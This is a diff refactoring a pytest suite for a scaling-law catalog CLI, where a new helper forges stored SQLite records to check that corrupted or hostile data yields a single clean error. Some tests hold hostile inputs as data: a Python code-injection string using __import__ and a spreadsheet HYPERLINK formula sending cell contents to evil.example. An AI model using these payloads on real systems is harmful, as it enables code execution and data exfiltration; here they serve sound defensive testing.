@@ -3,6 +3,7 @@ nothing written or lost, or (a byte-order mark, a dollar in a meaning) simply wo
 
 from __future__ import annotations
 
+import contextlib
 import os
 import subprocess
 import sys
@@ -198,6 +199,22 @@ def test_concurrent_loads_on_postgres_take_turns(pg_url, papers):
     from catalog.store.reader import Store
 
     assert len(Store(pg_url).papers) == len(papers)
+
+
+@contextlib.contextmanager
+def _forged_record(tmp_path):
+    """The fixture defined.yaml loaded as catalog load writes it, then forged as a database no load
+    wrote may be: yields (url, the stored record's JSON as a dict, the sqlite3 connection) and
+    writes the record back on leaving."""
+    import json
+    import sqlite3
+
+    url = f"sqlite:///{tmp_path / 'defined.sqlite'}"
+    db.load(records.load_valid([FIXTURES / "valid" / "defined.yaml"]), url)
+    with sqlite3.connect(tmp_path / "defined.sqlite") as connection:
+        record = json.loads(connection.execute("SELECT record_json FROM papers").fetchone()[0])
+        yield url, record, connection
+        connection.execute("UPDATE papers SET record_json = ?", (json.dumps(record),))
 
 
 def _dead_pid() -> int:
@@ -919,19 +936,12 @@ def test_a_paper_named_twice_is_reported_once(catalog_db):
                                   ["sweep", "defined", "N=7e7", "U=2e9", "R=0..40:3 lin"]])
 def test_stored_definitions_no_load_writes_are_one_error(tmp_path, expression, message, args):
     # symbols.*.expression of a record in someone else's catalog.sqlite: a DefinitionError or TypeError traceback
-    import json
-    import sqlite3
-
-    url = f"sqlite:///{tmp_path / 'defined.sqlite'}"
-    db.load(records.load_valid([FIXTURES / "valid" / "defined.yaml"]), url)
-    with sqlite3.connect(tmp_path / "defined.sqlite") as connection:
-        record = json.loads(connection.execute("SELECT record_json FROM papers").fetchone()[0])
+    with _forged_record(tmp_path) as (url, record, connection):
         symbols = record["laws"][0]["symbols"]
         symbols["Dprime"]["expression"] = expression
         if expression == "D1":
             for i in range(1, 40):
                 symbols[f"D{i}"] = {**symbols["Dprime"], "expression": f"D{i + 1}*D{i + 1}" if i < 39 else "N"}
-        connection.execute("UPDATE papers SET record_json = ?", (json.dumps(record),))
     result = _cli(*args, "--db", url)
     _one_error_line(result, 1, message, "rebuild it with 'catalog load'")
 
@@ -940,15 +950,8 @@ def test_stored_definitions_no_load_writes_are_one_error(tmp_path, expression, m
                                   ["eval", "defined", "N=7e7", "U=2e9", "R=4", "--json"]])
 def test_a_stored_definition_that_does_not_parse_is_one_error(tmp_path, args):
     # the law's value is printed from its stored tree, then its definition's values: a traceback
-    import json
-    import sqlite3
-
-    url = f"sqlite:///{tmp_path / 'defined.sqlite'}"
-    db.load(records.load_valid([FIXTURES / "valid" / "defined.yaml"]), url)
-    with sqlite3.connect(tmp_path / "defined.sqlite") as connection:
-        record = json.loads(connection.execute("SELECT record_json FROM papers").fetchone()[0])
+    with _forged_record(tmp_path) as (url, record, connection):
         record["laws"][0]["symbols"]["Dprime"]["expression"] = "__import__('os').getcwd()"
-        connection.execute("UPDATE papers SET record_json = ?", (json.dumps(record),))
     result = _cli(*args, "--db", url)
     _one_error_line(result, 2, "does not parse")
 
@@ -957,19 +960,12 @@ def test_a_stored_definition_that_does_not_parse_is_one_error(tmp_path, args):
 @pytest.mark.parametrize("fmt", ["markdown", "json"])
 def test_a_stored_formula_that_does_not_parse_is_one_error_in_a_table(tmp_path, where, fmt):
     # the form column parses the record's expression and definitions: a FormulaError traceback
-    import json
-    import sqlite3
-
-    url = f"sqlite:///{tmp_path / 'defined.sqlite'}"
-    db.load(records.load_valid([FIXTURES / "valid" / "defined.yaml"]), url)
-    with sqlite3.connect(tmp_path / "defined.sqlite") as connection:
-        record = json.loads(connection.execute("SELECT record_json FROM papers").fetchone()[0])
+    with _forged_record(tmp_path) as (url, record, connection):
         law = record["laws"][0]
         if where == "expression":
             law["expression"] = "__import__('os').getcwd()"
         else:
             law["symbols"]["Dprime"]["expression"] = "__import__('os').getcwd()"
-        connection.execute("UPDATE papers SET record_json = ?", (json.dumps(record),))
     result = _cli("table", "--columns", "paper,form", "--where", "id=defined", "--format", fmt, "--db", url)
     _one_error_line(result, 1, "'repeated-data'", "rebuild it with 'catalog load'")
 
@@ -979,17 +975,11 @@ def test_a_stored_symbol_name_never_starts_a_spreadsheet_formula_in_a_sweep(tmp_
     # load wrote, a name no record may hold reached the header as it was, run by a spreadsheet
     import csv
     import io
-    import json
-    import sqlite3
 
-    url = f"sqlite:///{tmp_path / 'defined.sqlite'}"
-    db.load(records.load_valid([FIXTURES / "valid" / "defined.yaml"]), url)
     hostile = '=HYPERLINK("http://evil.example/?"&A1)'
-    with sqlite3.connect(tmp_path / "defined.sqlite") as connection:
-        record = json.loads(connection.execute("SELECT record_json FROM papers").fetchone()[0])
+    with _forged_record(tmp_path) as (url, record, connection):
         symbols = record["laws"][0]["symbols"]
         symbols[hostile] = {**symbols["Dprime"], "expression": "U"}
-        connection.execute("UPDATE papers SET record_json = ?", (json.dumps(record),))
     result = _cli("sweep", "defined", "N=7e7", "U=2e9", "R=0..40:3 lin", "--db", url)
     header = next(csv.reader(io.StringIO(result.output)))
     assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header), header
@@ -1048,15 +1038,8 @@ def test_a_stored_symbol_name_no_record_may_hold_is_one_error(catalog_db, tmp_pa
 def test_a_stored_definition_that_does_not_parse_is_one_error_in_predict(tmp_path, definition, fmt):
     # predict computes a row's defined quantities when it prints them, after its engine errors were
     # turned into error lines: the definition's EngineError reached the terminal as a traceback
-    import json
-    import sqlite3
-
-    url = f"sqlite:///{tmp_path / 'defined.sqlite'}"
-    db.load(records.load_valid([FIXTURES / "valid" / "defined.yaml"]), url)
-    with sqlite3.connect(tmp_path / "defined.sqlite") as connection:
-        record = json.loads(connection.execute("SELECT record_json FROM papers").fetchone()[0])
+    with _forged_record(tmp_path) as (url, record, connection):
         record["laws"][0]["symbols"]["Dprime"]["expression"] = definition
-        connection.execute("UPDATE papers SET record_json = ?", (json.dumps(record),))
     result = _cli("predict", "model_parameters=7e7", "data=2e9", "epochs=4", "--format", fmt, "--db", url)
     _one_error_line(result, 2, "does not parse")
 
@@ -1071,19 +1054,12 @@ def test_a_stored_formula_that_does_not_parse_is_one_error_with_constants_or_pre
     # table --constants prints through typeset (display_form: an EngineError) and show --pretty
     # parses each formula itself (a FormulaError): both ended in a traceback for a formula of a
     # --db no load wrote, where the table without --constants gives one error line
-    import json
-    import sqlite3
-
-    url = f"sqlite:///{tmp_path / 'defined.sqlite'}"
-    db.load(records.load_valid([FIXTURES / "valid" / "defined.yaml"]), url)
-    with sqlite3.connect(tmp_path / "defined.sqlite") as connection:
-        record = json.loads(connection.execute("SELECT record_json FROM papers").fetchone()[0])
+    with _forged_record(tmp_path) as (url, record, connection):
         law = record["laws"][0]
         if where == "expression":
             law["expression"] = "E + A/N**alpha + B/Dprime**beta + Zed"
         else:
             law["symbols"]["Dprime"]["expression"] = "U + Zed"
-        connection.execute("UPDATE papers SET record_json = ?", (json.dumps(record),))
         connection.execute("UPDATE laws SET numeric_json = NULL")
     result = _cli(*args, "--db", url)
     _one_error_line(result, 1, "'repeated-data'", "rebuild it with 'catalog load'")
@@ -1144,15 +1120,8 @@ def test_search_laws_never_prints_a_symbol_or_definition_no_record_may_hold(cata
                                   ["table", "--columns", "paper,form", "--where", "id=defined", "--constants", "default"]])
 def test_a_stored_definition_that_does_not_parse_is_quoted_short(tmp_path, definition, args):
     # the error quoted the whole formula of a --db no load wrote: an 'error:' line of 18,000 characters
-    import json
-    import sqlite3
-
-    url = f"sqlite:///{tmp_path / 'defined.sqlite'}"
-    db.load(records.load_valid([FIXTURES / "valid" / "defined.yaml"]), url)
-    with sqlite3.connect(tmp_path / "defined.sqlite") as connection:
-        record = json.loads(connection.execute("SELECT record_json FROM papers").fetchone()[0])
+    with _forged_record(tmp_path) as (url, record, connection):
         record["laws"][0]["symbols"]["Dprime"]["expression"] = definition
-        connection.execute("UPDATE papers SET record_json = ?", (json.dumps(record),))
     result = _cli(*args, "--db", url)
     assert result.exit_code in (1, 2) and "Traceback" not in result.output
     [line] = [line for line in result.output.splitlines() if line.startswith("error")]
@@ -1184,15 +1153,8 @@ def test_a_stored_number_no_record_may_hold_is_one_error_on_the_fast_paths(tmp_p
     # eval, show and sweep read the stored JSON without the schema: a 400-digit integer or a
     # string where a number stands ended in a traceback (OverflowError, TypeError), True evaluated
     # as 1, a non-number in printed was shown as the set's digits; each is refused as the schema would
-    import json
-    import sqlite3
-
-    url = f"sqlite:///{tmp_path / 'defined.sqlite'}"
-    db.load(records.load_valid([FIXTURES / "valid" / "defined.yaml"]), url)
-    with sqlite3.connect(tmp_path / "defined.sqlite") as connection:
-        record = json.loads(connection.execute("SELECT record_json FROM papers").fetchone()[0])
+    with _forged_record(tmp_path) as (url, record, connection):
         change(record["laws"][0])
-        connection.execute("UPDATE papers SET record_json = ?", (json.dumps(record),))
     result = _cli(*args, "--db", url)
     _one_error_line(result, 1, "'defined'", "rebuild it with 'catalog load'")
 
@@ -1219,15 +1181,8 @@ def test_a_stored_law_shaped_as_no_record_is_one_error_on_the_fast_paths(tmp_pat
     # eval, show and sweep trust the stored JSON's shape: a symbol that is no object, a range of
     # text, a fixed symbol without its value, no output or constant sets that are no list ended in
     # a TypeError, AttributeError or StopIteration traceback
-    import json
-    import sqlite3
-
-    url = f"sqlite:///{tmp_path / 'defined.sqlite'}"
-    db.load(records.load_valid([FIXTURES / "valid" / "defined.yaml"]), url)
-    with sqlite3.connect(tmp_path / "defined.sqlite") as connection:
-        record = json.loads(connection.execute("SELECT record_json FROM papers").fetchone()[0])
+    with _forged_record(tmp_path) as (url, record, connection):
         change(record["laws"][0])
-        connection.execute("UPDATE papers SET record_json = ?", (json.dumps(record),))
     result = _cli(*args, "--db", url)
     _one_error_line(result, 1, "'defined'", "rebuild it with 'catalog load'")
 
@@ -1246,15 +1201,8 @@ def test_a_stored_record_no_load_writes_failing_a_fast_path_is_reported_as_such(
     # the fast paths read the stored JSON without the schema, trusting its shape: each of these ended
     # in a traceback (TypeError, AttributeError, StopIteration...). When a command fails, the records
     # it read as views are validated: the schema's error is the one line
-    import json
-    import sqlite3
-
-    url = f"sqlite:///{tmp_path / 'defined.sqlite'}"
-    db.load(records.load_valid([FIXTURES / "valid" / "defined.yaml"]), url)
-    with sqlite3.connect(tmp_path / "defined.sqlite") as connection:
-        record = json.loads(connection.execute("SELECT record_json FROM papers").fetchone()[0])
+    with _forged_record(tmp_path) as (url, record, connection):
         change(record)
-        connection.execute("UPDATE papers SET record_json = ?", (json.dumps(record),))
     result = _cli(*args, "--db", url)
     _one_error_line(result, 1, "'defined'", "rebuild it with 'catalog load'")
 
